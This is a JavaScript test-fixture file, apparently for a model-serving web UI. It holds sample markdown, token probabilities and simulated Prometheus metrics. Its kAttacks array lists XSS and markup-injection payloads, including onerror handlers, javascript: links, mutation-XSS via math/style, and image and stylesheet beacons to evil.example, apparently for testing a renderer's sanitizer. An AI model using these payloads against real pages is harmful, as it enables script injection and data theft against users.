// Texts and metrics that tests and screenshots share.

export const kMarkdown = `A **KV cache** keeps the *keys* and *values* of the tokens that a model has read, so that each new token costs one step:

1. read the prompt once,
2. store its keys and values in \`blocks\`,
3. let every later token look back at them.

\`\`\`python
def attend(query, keys, values):
    # one row of scores a key
    scores = [dot(query, key) for key in keys]
    weights = softmax(scores)
    return sum(w * v for w, v in zip(weights, values))  # a line that is so long that it has to scroll by itself
\`\`\`

| format | bits | bytes a token |
|:--|--:|--:|
| F16 | 16 | 114,688 |
| INT8 | 8 | 58,240 |

> What is shared is stored once.

More in [the paper](https://example.org/paper). ![a picture](https://example.org/picture.png)
`;

// Each would set window.hacked, or ask another machine for something, if it ran.
export const kAttacks = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 2">',
  '<svg onload="window.hacked = 3"><script>window.hacked = 4</script></svg>',
  '<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe>',
  '[click](javascript:window.hacked=6)',
  '[click](JaVaScRiPt&#58;window.hacked=7)',
  '<a href="data:text/html,<script>opener.hacked=8</script>">data</a>',
  '![x](https://evil.example/beacon.png?secret)',
  '![x](x" onerror="window.hacked=9)',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/y.css">',
  '<form action="https://evil.example/"><button formaction="javascript:window.hacked=10">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '```"><img src=x onerror="window.hacked=11">\ncode</code></pre><script>window.hacked = 12</script>\n```',
  '<details open ontoggle="window.hacked = 13"><summary>s</summary></details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=14&gt;">',
  '| a |\n|---|\n| <img src=x onerror="window.hacked=15"> |',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/z.png)">cover</div>',
];

export const kTokens = [
  ['The', 0.62, [' A', 0.2], ['It', 0.1], ['This', 0.03], ['In', 0.01]],
  [' cache', 0.97, [' model', 0.02], [' blocks', 0.005]],
  [' keeps', 0.41, [' stores', 0.43], [' holds', 0.1]],
  [' the', 0.85, [' keys', 0.1], [' all', 0.02]],
  [' keys', 0.72, [' past', 0.11]],
  [' of', 0.03, [' and', 0.93], [',', 0.02]],
  [' earlier', 0.18, [' all', 0.4], [' every', 0.2]],
  [' tokens', 0.99, [' words', 0.004]],
  ['.', 0.92, [',', 0.05]],
  ['\n', 0.55, [' ', 0.2]],
  ['Perhaps', 0.004, ['So', 0.5], ['This', 0.3]],
  [' you', 0.3, [' it', 0.35]],
  [' should', 0.5, [' could', 0.2]],
  [' look', 0.25, [' try', 0.3]],
  [' at', 0.88, [' into', 0.08]],
  [' it', 0.66, [' them', 0.2]],
  ['.', 0.98, ['!', 0.01]],
];

const kFirstToken = [
  [0.02, 0],
  [0.04, 3],
  [0.06, 14],
  [0.08, 22],
  [0.1, 17],
  [0.25, 31],
  [0.5, 9],
  [0.75, 2],
  [1, 0],
  [2.5, 1],
  ['+Inf', 0],
];
const kBetween = [
  [0.005, 0],
  [0.01, 40],
  [0.025, 1900],
  [0.05, 3200],
  [0.075, 410],
  [0.1, 90],
  [0.15, 22],
  [0.2, 4],
  [0.3, 1],
  ['+Inf', 0],
];

function histogram(name, buckets, sum) {
  let below = 0;
  const lines = buckets.map(([bound, count]) => `${name}_bucket{weights="1",le="${bound}"} ${(below += count)}`);
  return [...lines, `${name}_sum{weights="1"} ${sum}`, `${name}_count{weights="1"} ${below}`].join('\n');
}

// The n-th reading of a busy server.
export function metricsText(n) {
  const waiting = Math.max(0, Math.round(3 + 4 * Math.sin(n / 9)));
  return `# TYPE hone_sequences_running gauge
hone_sequences_running{model_name="scripted",weights="1"} ${8 - (n % 3)}
hone_sequences_waiting{model_name="scripted",weights="1"} ${waiting}
hone_kv_blocks{weights="1"} 2048
hone_kv_blocks_used{weights="1"} ${900 + 40 * (n % 7)}
hone_kv_blocks_shared{weights="1"} 310
hone_kv_blocks_cached{weights="1"} 520
hone_preemptions_total{weights="1"} 3
hone_prefix_query_tokens_total{weights="1"} 51200
hone_prefix_hit_tokens_total{weights="1"} 38912
hone_computed_prompt_tokens_total{weights="1"} ${n * 90 + (n % 3) * 30}
hone_generation_tokens_total{weights="1"} ${n * 118 + (n % 4) * 12}
hone_requests_total{weights="1",finished_reason="stop"} 84
hone_requests_total{weights="1",finished_reason="length"} 13
hone_requests_total{weights="1",finished_reason="abort"} 2
hone_requests_total{weights="1",finished_reason="error"} 0
hone_resident_bytes 1288490189
hone_start_time_seconds 1700000000
${histogram('hone_time_to_first_token_seconds', kFirstToken, 14.9)}
${histogram('hone_inter_token_seconds', kBetween, 181.4)}
`;
}
